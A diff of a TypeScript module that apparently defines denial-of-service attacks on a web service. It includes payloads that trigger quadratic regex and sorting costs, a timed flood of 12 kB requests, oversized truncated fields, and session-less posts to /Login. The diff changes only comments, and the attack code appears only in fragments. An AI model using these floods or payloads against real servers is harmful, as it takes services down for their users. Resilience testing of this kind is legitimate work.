@@ -3,12 +3,12 @@ import { validIdentity } from "../support/valid-forms";
 import { attack, type Attack, type Target } from "./attack";
 import { ask, attackerAddress, headOf, postOf, repeat, visitorOf } from "./wires";
 
-/** Texts for which a regular expression takes the square of their length. */
+/** Texts for which a regular expression would take time that grows with the square of their length. */
 
 const STRIKE_MS = 8_000;
 const DETAILS_PATH = "/RealNameInfo?country=158";
 
-/** A request of 12 kB, so often that it makes 154 kB a second. */
+/** How often a request of 12 kB is sent, which makes 154 kB a second. */
 const SLASHES_EVERY_MS = 78;
 
 async function slashes(target: Target): Promise<void> {
@@ -21,7 +21,7 @@ async function slashes(target: Target): Promise<void> {
   await Promise.all(asked);
 }
 
-/** Two accounts post the form of an identity one after the other. */
+/** Two accounts post the identity form, each one request at a time. */
 async function prepareDashes(target: Target) {
   const visitors = target.accounts.map((cookie, index) =>
     visitorOf(target, `ulan=en_US; ${cookie}`, attackerAddress(index + 1)),
@@ -42,10 +42,10 @@ async function prepareDashes(target: Target) {
   };
 }
 
-/** As many as a field may have: sorting them takes quadratic time. */
+/** As many marks as a field may have; sorting them takes quadratic time. */
 const MARKS = "\u0344\u0334".repeat(4_000 - 50);
 
-/** Strangers post names and texts of marks that are to change places, as they are: percent-encoded four are too long. */
+/** Strangers post fields of marks that have to be sorted. Sent raw: percent-encoded, four would be too long. */
 async function prepareMarks(target: Target) {
   const requests = await Promise.all(
     Array.from({ length: 4 }, async (_, index) => {
@@ -65,7 +65,7 @@ async function prepareMarks(target: Target) {
   };
 }
 
-/** No session, no token. */
+/** A post without session and token. */
 const toLogin = (name: string, sent: string, body: Buffer | string) =>
   attack("7", name, `200 × ${sent} to /Login`, {
     prepare: (target) => async () => {
@@ -75,8 +75,8 @@ const toLogin = (name: string, sent: string, body: Buffer | string) =>
   });
 
 /**
- * Four fields, each of which does not fit: the beginning of such a field is read, and an end that is half a character
- * is taken off.
+ * Four fields that are all too long. The server reads the beginning of such a field, and removes half a character at
+ * the end.
  */
 const CUT_FIELDS = Buffer.concat(
   [70_000, 50_000, 34_000, 18_000].flatMap((bytes, index) => [
